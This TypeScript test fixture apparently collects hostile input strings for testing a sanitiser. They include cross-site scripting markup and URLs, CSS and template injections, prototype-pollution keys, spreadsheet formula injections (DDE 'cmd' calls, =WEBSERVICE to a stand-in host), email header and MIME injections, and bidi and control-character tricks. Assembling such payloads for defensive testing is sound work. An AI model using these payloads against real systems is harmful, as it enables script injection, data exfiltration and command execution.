import { hostileMarkup } from "./hostile-markup";

const raw = (text: string): string[] => text.split("\n").filter((line) => line.trim() !== "");

const addresses = raw(String.raw`
javascript:trap()
JaVaScRiPt:trap()
javascript://x/%0Atrap()
data:text/html,<script>trap()</script>
data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="trap()"/>
vbscript:trap()
blob:https://trap.invalid/1
view-source:https://trap.invalid/
https://trap.invalid/"onmouseover="trap()
https://trap.invalid/')"><img src=x onerror=trap()>
//trap.invalid/x
\\trap.invalid\share
file:///etc/passwd
http://[::1]:1/<svg onload=trap()>
mailto:x@trap.invalid?bcc=y@trap.invalid&body=x
tel:+15551234;trap()
www.trap.invalid
trap@trap.invalid
`);

const styles = raw(String.raw`
</style><script>trap()</script>
*{background:url(https://trap.invalid/c)}
}body{display:none}
expression(trap())
url(javascript:trap())
@import url(https://trap.invalid/i.css);
\3c/style\3e<img src=x onerror=trap()>
behavior:url(#default#time2)
`);

const templates = raw(String.raw`
{{7*7}}
{{constructor.constructor('trap()')()}}
{%7*7%}
${"${7*7}"}
${"${trap()}"}
#{7*7}
<%= 7*7 %>
<?php trap(); ?>
[[7*7]]
@{7*7}
$NAME$ $COUNT$ $PARAMS$
$& $1 $$ $${"`"} $' $<x>
%s %d %n %x %1$s
{0} {name} {count, plural, other {#}}
__proto__
constructor
prototype
{"__proto__":{"polluted":true}}
toString
hasOwnProperty
`);

const markdown = raw(String.raw`
[x](javascript:trap())
[x](https://trap.invalid/ "t")
![x](https://trap.invalid/i.png)
![x](x" onerror="trap())
[![x](https://trap.invalid/i.png)](javascript:trap())
<https://trap.invalid/auto>
<javascript:trap()>
https://trap.invalid/bare
[x]: https://trap.invalid/ref
[x]: javascript:trap() [x]
[^1]: trap [^1]
**bold** _em_ ~~del~~ ${"`code`"}
${"```"}
${"~~~html"}
${"````"} <img src=x onerror=trap()> ${"````"}
${"`"} <img src=x onerror=trap()> ${"``"}
# heading
> quotation
- item
1. item
---
===
| a | b |
|---|---|
    indented <img src=x onerror=trap()>
\<img src=x onerror=trap()\>
${"\\`"}<img src=x onerror=trap()>
@everyone @trap #1 GH-1 trap/trap#1
:trap: $$\href{javascript:trap()}{x}$$
<details><summary>x</summary>
&#x5b;x&#x5d;(javascript:trap())
- [ ] task
  
`);

const cells = raw(String.raw`
=HYPERLINK("https://trap.invalid/?"&A1,"x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-1+1
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://trap.invalid/","//a")
=WEBSERVICE("https://trap.invalid/")
%0A=1+1
"=1+1
|=1+1
＝1+1
;=1+1
,=1+1
`);

const controls = [
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "x\r\nBcc: trap@trap.invalid",
  "x\nBcc: trap@trap.invalid\n\n<script>trap()</script>",
  "x\r\n Bcc: trap@trap.invalid",
  "x\r\n\tContent-Type: text/html\r\n\r\n<script>trap()</script>",
  "x\rContent-Type: text/html\r\r<script>trap()</script>",
  "x\r\n.\r\nMAIL FROM:<trap@trap.invalid>",
  "x\u0085Bcc: trap@trap.invalid",
  "x\u2028Bcc: trap@trap.invalid\u2029",
  "x%0D%0ABcc:trap@trap.invalid",
  "=?utf-8?B?PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=?=",
  "=?utf-8?Q?=0D=0ABcc:_trap=40trap.invalid?=",
  "--=_whose403-report_=",
  "\r\n--=_whose403-report_=\r\nContent-Type: text/html\r\n\r\n<script>trap()</script>\r\n",
  "\r\n--=_whose403-report_=--\r\n",
  "begin 644 trap.exe",
  '"; filename="trap.html',
  "x; boundary=trap",
  "\u202Egnp.exe <script>trap()</script>",
  "\u2067x\u2066y",
  "\u061C\u200E\u200F\u202A\u202B",
  "a\u200Bb\u200Cc\u200Dd\uFEFFe",
  "\u00ADtr\u00ADap",
  "\u{E0041}\u{E0042}\u{E007F}",
  "\uD800",
  "\uDC00x",
  "x\uD83D",
  "\0",
  "<im\0g src=x onerror=trap()>",
  "\u0001\u0007\b\u001B[2J\u001B]0;trap\u0007",
  "\u009B2J\u009D0;trap\u009C",
  "\u0000<script>trap()</script>",
  "\u000C<script>trap()</script>",
  "Z\u0351\u036B\u0343\u036A\u0302".repeat(200),
  "<".repeat(5_000),
  "&".repeat(5_000),
  "`".repeat(5_000),
  "[".repeat(2_000),
  "(".repeat(2_000),
  ">".repeat(2_000),
  "*_".repeat(2_000),
  "\\".repeat(2_001),
  "=".repeat(5_000),
  "\n".repeat(2_000),
  " ".repeat(5_000),
  "a".repeat(20_000),
  '{"a":'.repeat(500),
  "[[[[".repeat(500),
  '"}]}],"x":[{"y":"',
  '</script><!--"}',
  "\\u0022}],\\u003c",
  "\\",
  '"',
  "'",
  "`",
  "\u2028",
  "IEND\u00AEB`\u0082",
  "iTXtwhose403\0\0\0\0\0{}",
  "\u0089PNG\r\n\u001A\n",
  "WHOSE403/1\nRay 0123456789abcdef AMS\nUTC 2026-01-01 00:00:00",
];

/** Values that try to run, to reach out or to leave their place, each different. `trap` is a function of the page. */
export const hostileValues: readonly string[] = [
  ...new Set([...hostileMarkup, ...addresses, ...styles, ...templates, ...markdown, ...cells, ...controls]),
];
